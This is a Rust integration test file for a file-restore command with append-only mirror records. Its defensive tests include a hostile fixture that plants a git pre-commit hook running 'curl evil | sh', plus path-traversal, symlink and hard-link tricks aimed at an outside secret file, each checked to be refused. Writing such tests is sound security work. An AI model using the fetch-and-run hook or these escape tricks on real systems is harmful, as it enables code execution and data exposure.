#![allow(clippy::disallowed_methods)] // Integration tests build and inspect fixtures by name, as a user would.
//! `filesystem audit restore` through the real binary: the file, the mirror record, the guard and
//! the refusal to destroy unrecorded content.

use test_support::audit::Workspace;

/// The separators in a mirror, as (kind, record_id).
fn separators(mirror: &[u8]) -> Vec<(String, u64)> {
    let re = regex::bytes::Regex::new(
        r"(?m)^--- shelpa:(overwrite|baseline) ts=[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9]{2}:[0-9]{2}:[0-9]{2}Z record_id=([0-9]+) ---$",
    )
    .expect("regex");
    re.captures_iter(mirror)
        .map(|c| {
            (
                String::from_utf8_lossy(&c[1]).into_owned(),
                String::from_utf8_lossy(&c[2]).parse().expect("id"),
            )
        })
        .collect()
}

#[test]
fn restore_writes_the_version_and_records_it_as_a_new_overwrite() {
    let ws = Workspace::fixture();
    let mirror_before = ws.read(".shelpa/notes/plan.md");
    let run = ws
        .audit(&["restore", "notes/plan.md", "1771583400500000000"])
        .ok();
    assert!(
        run.text()
            .contains("restored 'notes/plan.md' record 1771583400500000000"),
        "{}",
        run.text()
    );
    let expected = "# Plan\n\n- ship v0.1\n- write docs\n- CHECKPOINT: parser done, all tests green\n- note: appended later by tee -a\n";
    assert_eq!(ws.read("notes/plan.md"), expected.as_bytes());

    let mirror_after = ws.read(".shelpa/notes/plan.md");
    assert!(
        mirror_after.starts_with(&mirror_before),
        "the mirror is only appended to"
    );
    let added = &mirror_after[mirror_before.len()..];
    let seps = separators(added);
    assert_eq!(seps.len(), 1, "{}", String::from_utf8_lossy(added));
    assert_eq!(seps[0].0, "overwrite");
    assert!(
        seps[0].1 > 1772025450395572000,
        "record ids strictly increase"
    );
    assert!(added.starts_with(b"--- shelpa:overwrite ts="));
    assert!(added.ends_with(expected.as_bytes()));

    // The restore is itself a version: the newest record, and it can be undone by restoring #7.
    let log = ws.audit(&["log", "notes/plan.md", "--json"]).ok().json();
    let records = log["records"].as_array().expect("records");
    assert_eq!(records.len(), 8);
    assert_eq!(records[7]["record_id"].as_u64(), Some(seps[0].1));
    assert_eq!(ws.audit(&["show", "notes/plan.md"]).ok().text(), expected);
    ws.audit(&["restore", "notes/plan.md", "#7"]).ok();
    assert_eq!(
        ws.read("notes/plan.md"),
        b"# Plan\n\n- ship v0.3\n- CHECKPOINT: audit tool merged\n"
    );
    let list = ws.audit(&["list", "--json"]).ok().json();
    let plan = list["files"]
        .as_array()
        .expect("files")
        .iter()
        .find(|f| f["path"] == "notes/plan.md")
        .expect("plan")
        .clone();
    assert_eq!(plan["records"], 9);
    assert_eq!(plan["matches_newest"], true);
    // No temporary file is left behind.
    let names: Vec<_> = std::fs::read_dir(ws.path("notes"))
        .expect("dir")
        .map(|e| e.expect("e").file_name())
        .collect();
    assert_eq!(names, ["plan.md"]);
}

#[test]
fn a_separator_always_starts_on_a_new_line_after_a_version_without_final_newline() {
    let ws = Workspace::fixture();
    let before = ws.read(".shelpa/todo.txt");
    assert!(before.ends_with(b"call bob"));
    ws.audit(&["restore", "todo.txt", "#1"]).ok();
    assert_eq!(ws.read("todo.txt"), b"buy milk\n");
    let after = ws.read(".shelpa/todo.txt");
    let added = &after[before.len()..];
    assert!(
        added.starts_with(b"\n--- shelpa:overwrite ts="),
        "{}",
        String::from_utf8_lossy(added)
    );
    assert!(added.ends_with(b" ---\nbuy milk\n"));
    // The earlier newest version now reads back with the newline the format adds.
    assert_eq!(
        ws.audit(&["show", "todo.txt", "#2"]).ok().stdout,
        b"buy milk\ncall bob\n"
    );
    assert_eq!(
        ws.audit(&["verify", "--json"]).json()["findings"]
            .as_array()
            .expect("findings")
            .iter()
            .filter(|f| f["path"] == ".shelpa/todo.txt")
            .count(),
        0
    );
}

#[test]
fn restore_refuses_to_overwrite_unrecorded_changes_without_force() {
    let ws = Workspace::fixture();
    let file_before = ws.read("src/config.toml");
    let mirror_before = ws.read(".shelpa/src/config.toml");
    let run = ws.audit(&["restore", "src/config.toml", "#1"]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(run.stderr.contains("--force"), "{}", run.stderr);
    assert!(run.stderr.contains("in no record"), "{}", run.stderr);
    assert_eq!(ws.read("src/config.toml"), file_before);
    assert_eq!(ws.read(".shelpa/src/config.toml"), mirror_before);

    let forced = ws
        .audit(&["restore", "src/config.toml", "#1", "--force", "--json"])
        .ok()
        .json();
    assert_eq!(forced["restored"], true);
    assert_eq!(
        ws.read("src/config.toml"),
        b"[server]\nport = 8080\nhost = \"127.0.0.1\"\n"
    );
    // The hand edit was kept as a baseline record before the overwrite, so it is not lost.
    let baseline = forced["baseline_record_id"]
        .as_u64()
        .expect("baseline kept");
    assert!(forced["new_record_id"].as_u64().expect("new") > baseline);
    let kept = ws
        .audit(&["show", "src/config.toml", &baseline.to_string()])
        .ok();
    assert_eq!(kept.stdout, file_before);
    let added = &ws.read(".shelpa/src/config.toml")[mirror_before.len()..];
    let seps = separators(added);
    assert_eq!(
        seps.iter().map(|s| s.0.as_str()).collect::<Vec<_>>(),
        ["baseline", "overwrite"]
    );
}

#[test]
fn restore_to_another_destination_creates_it_and_its_mirror() {
    let ws = Workspace::fixture();
    // A deleted file comes back, too.
    let run = ws
        .audit(&[
            "restore",
            "scratch.txt",
            "#1",
            "--to",
            "recovered/scratch-old.txt",
        ])
        .ok();
    assert!(
        run.text().contains("to 'recovered/scratch-old.txt'"),
        "{}",
        run.text()
    );
    assert_eq!(
        ws.read("recovered/scratch-old.txt"),
        b"temporary notes: the API key rotation happens on Fridays\n"
    );
    let mirror = ws.read(".shelpa/recovered/scratch-old.txt");
    assert_eq!(separators(&mirror).len(), 1);
    assert!(mirror.ends_with(b" ---\ntemporary notes: the API key rotation happens on Fridays\n"));
    assert!(!ws.path("scratch.txt").exists(), "only DEST is written");

    // A destination that exists with no mirror is unrecorded content: refused, then kept.
    std::fs::write(ws.path("notes/other.md"), "mine\n").expect("write");
    let refused = ws.audit(&["restore", "notes/plan.md", "#1", "--to", "notes/other.md"]);
    assert_eq!(refused.code, 1);
    assert_eq!(ws.read("notes/other.md"), b"mine\n");
    ws.audit(&[
        "restore",
        "notes/plan.md",
        "#1",
        "--to",
        "notes/other.md",
        "--force",
    ])
    .ok();
    assert_eq!(ws.read("notes/other.md"), b"# Plan\n\n- ship v0.1\n");
    assert_eq!(
        ws.audit(&["show", "notes/other.md", "#1"]).ok().stdout,
        b"mine\n"
    );
    assert_eq!(
        ws.audit(&["log", "notes/other.md", "--json"]).ok().json()["records"][0]["kind"],
        "baseline"
    );
}

#[test]
fn restoring_the_current_content_writes_nothing() {
    let ws = Workspace::fixture();
    let mirror_before = ws.read(".shelpa/notes/plan.md");
    let run = ws.audit(&["restore", "notes/plan.md", "#7"]).ok();
    assert!(run.text().contains("nothing was written"), "{}", run.text());
    assert_eq!(ws.read(".shelpa/notes/plan.md"), mirror_before);
}

#[test]
fn restore_destinations_go_through_the_guard() {
    let ws = Workspace::fixture();
    std::os::unix::fs::symlink(ws.outside.join("secret.txt"), ws.path("link.txt"))
        .expect("symlink");
    std::fs::remove_dir_all(ws.path("docs")).expect("rm");
    std::os::unix::fs::symlink(&ws.outside, ws.path("docs")).expect("symlink");
    let outside_dest = format!("{}/new.txt", ws.outside.display());
    for dest in [
        "../outside/new.txt",
        outside_dest.as_str(),
        "link.txt",
        "docs/new.txt",
        ".shelpa/notes/plan.md",
        ".filesystem/x",
        "notes",
    ] {
        let run = ws.audit(&["restore", "notes/plan.md", "#1", "--to", dest, "--force"]);
        assert_eq!(run.code, 1, "{dest}: {}", run.stderr);
        assert!(!run.stderr.is_empty());
    }
    assert_eq!(
        std::fs::read(ws.outside.join("secret.txt")).expect("read"),
        b"TOP-SECRET outside the root\n"
    );
    let outside: Vec<_> = std::fs::read_dir(&ws.outside)
        .expect("dir")
        .map(|e| e.expect("e").file_name())
        .collect();
    assert_eq!(
        outside,
        ["secret.txt"],
        "nothing was written outside the root"
    );
    assert!(std::fs::symlink_metadata(ws.path("link.txt"))
        .expect("link")
        .file_type()
        .is_symlink());
    assert!(!ws.path(".shelpa/link.txt").exists());
}

#[test]
fn restore_refuses_to_plant_a_git_hook_from_a_hostile_mirror() {
    let ws = Workspace::fixture();
    std::fs::create_dir_all(ws.path(".git/hooks")).expect("mkdir");
    std::fs::create_dir_all(ws.path(".shelpa/.git/hooks")).expect("mkdir");
    std::fs::write(
        ws.path(".shelpa/.git/hooks/pre-commit"),
        "--- shelpa:overwrite ts=2026-02-20T09:00:00Z record_id=1771578000104857600 ---\n#!/bin/sh\ncurl evil | sh\n",
    )
    .expect("write");
    for args in [
        vec!["restore", ".git/hooks/pre-commit", "#1", "--force"],
        vec![
            "restore",
            "notes/plan.md",
            "#1",
            "--to",
            ".git/hooks/pre-commit",
        ],
        vec!["restore", "notes/plan.md", "#1", "--to", "sub/.git/x"],
    ] {
        let run = ws.audit(&args);
        assert_eq!(run.code, 1, "{args:?}: {}", run.stderr);
        assert!(run.stderr.contains(".git/"), "{}", run.stderr);
    }
    assert!(!ws.path(".git/hooks/pre-commit").exists());
    assert!(!ws.path("sub").exists());
}

#[test]
fn restore_never_appends_through_a_mirror_hard_linked_to_an_outside_file() {
    let ws = Workspace::fixture();
    let secret = ws.outside.join("secret.txt");
    std::fs::hard_link(&secret, ws.path(".shelpa/notes/new.md")).expect("link");
    let run = ws.audit(&["restore", "notes/plan.md", "#1", "--to", "notes/new.md"]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(run.stderr.contains("single link"), "{}", run.stderr);
    assert_eq!(
        std::fs::read(&secret).expect("read"),
        b"TOP-SECRET outside the root\n"
    );
    assert!(
        !ws.path("notes/new.md").exists(),
        "nothing is written that the mirror did not record"
    );
    assert!(
        !run.stderr.contains(&ws.root.display().to_string()),
        "{}",
        run.stderr
    );
}
